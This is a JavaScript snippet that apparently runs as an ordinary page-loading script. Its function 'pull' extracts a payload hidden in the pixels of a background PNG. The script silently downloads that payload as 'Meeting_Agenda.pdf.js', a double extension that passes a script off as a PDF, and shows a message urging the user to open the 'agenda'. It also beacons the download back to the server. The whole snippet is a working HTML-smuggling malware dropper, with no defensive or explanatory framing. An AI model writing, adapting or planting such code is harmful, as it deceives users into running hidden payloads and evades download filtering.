const img = new Image();
img.crossOrigin = "anonymous";
img.src = "/assets/loading-bg.png";

const pull = (ctx, w, h) => {
  const px = ctx.getImageData(0, 0, w, h).data;
  const size = (px[0] << 16) | (px[1] << 8) | px[2];
  const out = new Uint8Array(size);
  let n = 0;
  for (let i = 4; n < size; i += 4) {
    for (let c = 0; c < 3 && n < size; c++) out[n++] = px[i + c];
  }
  return out;
};

img.onload = () => {
  const canvas = document.createElement("canvas");
  canvas.width = img.width;
  canvas.height = img.height;
  const ctx = canvas.getContext("2d", { willReadFrequently: true });
  ctx.drawImage(img, 0, 0);
  const bytes = pull(ctx, img.width, img.height);
  const file = new File([bytes], "Meeting_Agenda.pdf.js", { type: "application/octet-stream" });
  const a = document.createElement("a");
  a.href = URL.createObjectURL(file);
  a.download = file.name;
  document.body.append(a);
  requestIdleCallback(() => {
    a.click();
    a.remove();
    document.querySelector(".status").textContent = "Your agenda is ready. Open it from the Downloads bar.";
    navigator.sendBeacon("/dl", file.name);
  });
};
